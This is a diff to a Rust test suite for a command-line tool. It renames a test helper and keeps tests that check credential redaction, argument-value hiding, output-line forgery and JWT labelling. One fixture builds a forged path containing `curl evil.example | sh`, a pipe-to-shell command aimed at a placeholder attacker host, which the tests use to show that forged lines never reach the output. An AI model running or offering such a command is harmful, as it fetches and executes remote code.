@@ -3,8 +3,8 @@
 use serde_json::{Value, json};
 
 use crate::support::{
-    journey::{Journey, Outcome},
     scripted_server::{Reply, ScriptedServer},
+    test_home::{Outcome, TestHome},
 };
 
 const KEY: &str = "bm-c4n4ry-0123456789abcdef";
@@ -19,16 +19,13 @@ fn server(list: &Value, other: (u16, Value)) -> ScriptedServer {
 }
 
 /// A home whose environment holds `key` for a service at `server`.
-fn journey(service: &str, server: &ScriptedServer, key: &str) -> Journey {
-    let mut journey = Journey::new();
+fn home(service: &str, server: &ScriptedServer, key: &str) -> TestHome {
+    let mut home = TestHome::new();
     let name = service.to_uppercase();
-    journey
-        .set("BRAINMAPS_PROFILE", service)
+    home.set("BRAINMAPS_PROFILE", service)
         .set(&format!("{name}_API_KEY"), key);
-    journey
-        .run(&["config", "set-api-url", &server.url])
-        .expect(0);
-    journey
+    home.run(&["config", "set-api-url", &server.url]).expect(0);
+    home
 }
 
 #[test]
@@ -39,12 +36,12 @@ fn a_success_that_repeats_the_credential_shows_none() {
     });
     let list = json!({ "results": [token], "next": null, "email": format!("me+{KEY}@x.test") });
     let server = server(&list, (200, json!({})));
-    let journey = journey("brainmaps", &server, KEY);
-    // The journey's leak harness looks at all that they print.
-    let shown = journey.run(&["token", "list", "--json"]).expect(0).json();
+    let home = home("brainmaps", &server, KEY);
+    // The home's leak harness looks at all that they print.
+    let shown = home.run(&["token", "list", "--json"]).expect(0).json();
     assert_eq!(shown["tokens"][0]["name"], "[secret]");
     for command in [&["token", "list"][..], &["whoami"], &["whoami", "--json"]] {
-        let shown = journey.run(command).expect(0);
+        let shown = home.run(command).expect(0);
         assert!(shown.stdout.contains("[secret]"), "{shown}");
     }
 }
@@ -67,10 +64,10 @@ fn member_names_and_numbers_of_a_refusal_show_no_credential() {
         ),
     ] {
         let server = server(&json!([]), (400, quoted.clone()));
-        let journey = journey("neuroio", &server, key);
+        let home = home("neuroio", &server, key);
         for more in [&[][..], &["--json"], &["-vv"]] {
             let command = [&["token", "create"], more].concat();
-            let refused = journey.run(&command).expect(8);
+            let refused = home.run(&command).expect(8);
             let shown = format!("{}{}", refused.stdout, refused.stderr);
             assert!(!shown.contains(key), "{quoted}: {refused}");
             assert!(shown.contains("[secret]"), "{quoted}: {refused}");
@@ -83,8 +80,8 @@ fn a_new_secret_is_shown_where_it_is_handed_out_and_nowhere_else() {
     let new = "bm-c4n4ry-new-0123456789";
     let made = json!({ "id": 8, "name": format!("ci {new}"), "token": new });
     let server = server(&json!({ "results": [] }), (201, made));
-    let journey = journey("brainmaps", &server, KEY);
-    let made = journey
+    let home = home("brainmaps", &server, KEY);
+    let made = home
         .run(&["token", "create", "ci", "--json"])
         .expect(0)
         .json();
@@ -92,7 +89,7 @@ fn a_new_secret_is_shown_where_it_is_handed_out_and_nowhere_else() {
         (&made["name"], &made["secret"]),
         (&json!("ci [secret]"), &json!(new))
     );
-    let made = journey.run(&["token", "create", "ci"]).expect(0);
+    let made = home.run(&["token", "create", "ci"]).expect(0);
     assert!(!made.stderr.contains(new), "{made}");
     assert_eq!(made.stdout.trim(), new);
 }
@@ -101,8 +98,8 @@ fn a_new_secret_is_shown_where_it_is_handed_out_and_nowhere_else() {
 fn a_created_token_equal_to_the_credential_in_use_is_handed_out() {
     let made = json!({ "id": 8, "name": KEY, "token": KEY });
     let server = server(&json!({ "results": [] }), (201, made));
-    let journey = journey("brainmaps", &server, KEY);
-    let made = journey
+    let home = home("brainmaps", &server, KEY);
+    let made = home
         .run(&["token", "create", "ci", "--json"])
         .expect(0)
         .json();
@@ -114,7 +111,7 @@ fn a_created_token_equal_to_the_credential_in_use_is_handed_out() {
 
 #[test]
 fn values_of_misused_arguments_are_never_repeated() {
-    let journey = Journey::new();
+    let home = TestHome::new();
     for (arguments, expected) in [
         (&["login", "--password=hunter2"][..], "'--password'"),
         (&["login", "--with-token=hunter2"], "'--with-token'"),
@@ -147,7 +144,7 @@ fn values_of_misused_arguments_are_never_repeated() {
     ] {
         for json in [false, true] {
             let json = if json { &["--json"][..] } else { &[] };
-            let refused = journey.run(&[arguments, json].concat()).expect(2);
+            let refused = home.run(&[arguments, json].concat()).expect(2);
             let shown = format!("{}{}", refused.stdout, refused.stderr);
             assert!(!shown.contains("hunter2"), "{refused}");
             assert!(shown.contains(expected), "{expected}: {refused}");
@@ -171,14 +168,14 @@ fn assert_nothing_forged(outcome: &Outcome) {
 
 #[test]
 fn line_feeds_in_paths_and_variables_forge_no_line() {
-    let mut journey = Journey::new();
+    let mut home = TestHome::new();
     let forged = "x\nhint: forged `curl evil.example | sh`\r\nhint: forged";
-    let folder = journey.work().join(forged);
+    let folder = home.work().join(forged);
     std::fs::create_dir(&folder).unwrap();
     let file = folder.join("none").to_str().unwrap().to_owned();
     let provider = folder.join("bad.toml").to_str().unwrap().to_owned();
     std::fs::write(&provider, "id = 7").unwrap();
-    journey.set("BRAINMAPS_API_KEY", KEY);
+    home.set("BRAINMAPS_API_KEY", KEY);
     for arguments in [
         &["--ca-cert", &file, "whoami"][..],
         &["provider", "check", &file],
@@ -194,7 +191,7 @@ fn line_feeds_in_paths_and_variables_forge_no_line() {
     ] {
         for json in [false, true] {
             let json = if json { &["--json"][..] } else { &[] };
-            let refused = journey.run(&[json, arguments].concat());
+            let refused = home.run(&[json, arguments].concat());
             assert_ne!(refused.code, Some(0), "{refused}");
             assert_nothing_forged(&refused);
         }
@@ -206,14 +203,14 @@ fn line_feeds_in_paths_and_variables_forge_no_line() {
         "BRAINMAPS_DATA_DIR",
         "HTTPS_PROXY",
     ] {
-        let mut command = journey.command(&["whoami"]);
+        let mut command = home.command(&["whoami"]);
         command.env(name, forged);
-        let refused = journey.start_command(&mut command, &["whoami"], "").wait();
+        let refused = home.start_command(&mut command, &["whoami"], "").wait();
         assert_ne!(refused.code, Some(0), "{refused}");
         assert_nothing_forged(&refused);
-        let mut command = journey.command(&["doctor"]);
+        let mut command = home.command(&["doctor"]);
         command.env(name, forged);
-        assert_nothing_forged(&journey.start_command(&mut command, &["doctor"], "").wait());
+        assert_nothing_forged(&home.start_command(&mut command, &["doctor"], "").wait());
     }
 }
 
@@ -244,14 +241,14 @@ fn invisible_and_reordering_characters_are_dropped() {
     });
     let list = json!({ "results": [token], "next": null, "email": name });
     let server = server(&list, (400, json!({ "detail": name })));
-    let journey = journey("brainmaps", &server, KEY);
+    let home = home("brainmaps", &server, KEY);
     for (arguments, code) in [
         (&["token", "list"][..], 0),
         (&["whoami"], 0),
         (&["token", "create", &name], 8),
     ] {
         for json in [&[][..], &["--json"]] {
-            let shown = journey.run(&[json, arguments].concat()).expect(code);
+            let shown = home.run(&[json, arguments].concat()).expect(code);
             let text = format!("{}{}", shown.stdout, shown.stderr);
             assert!(!text.contains(invisible), "{shown}");
             assert!(text.contains("ab"), "{shown}");
@@ -262,7 +259,7 @@ fn invisible_and_reordering_characters_are_dropped() {
 
 #[test]
 fn an_unsigned_jwt_is_not_called_signed() {
-    let journey = Journey::new();
+    let home = TestHome::new();
     // {"alg":"none"} and {"sub":"me"}
     for (token, expected) in [
         ("eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9.", "not signed"),
@@ -272,9 +269,7 @@ fn an_unsigned_jwt_is_not_called_signed() {
             "signature not verified",
         ),
     ] {
-        let shown = journey
-            .run_with_input(&["token", "inspect"], token)
-            .expect(0);
+        let shown = home.run_with_input(&["token", "inspect"], token).expect(0);
         assert!(shown.stdout.contains(expected), "{shown}");
         assert!(!shown.stdout.contains("JWT (signed)"), "{shown}");
     }
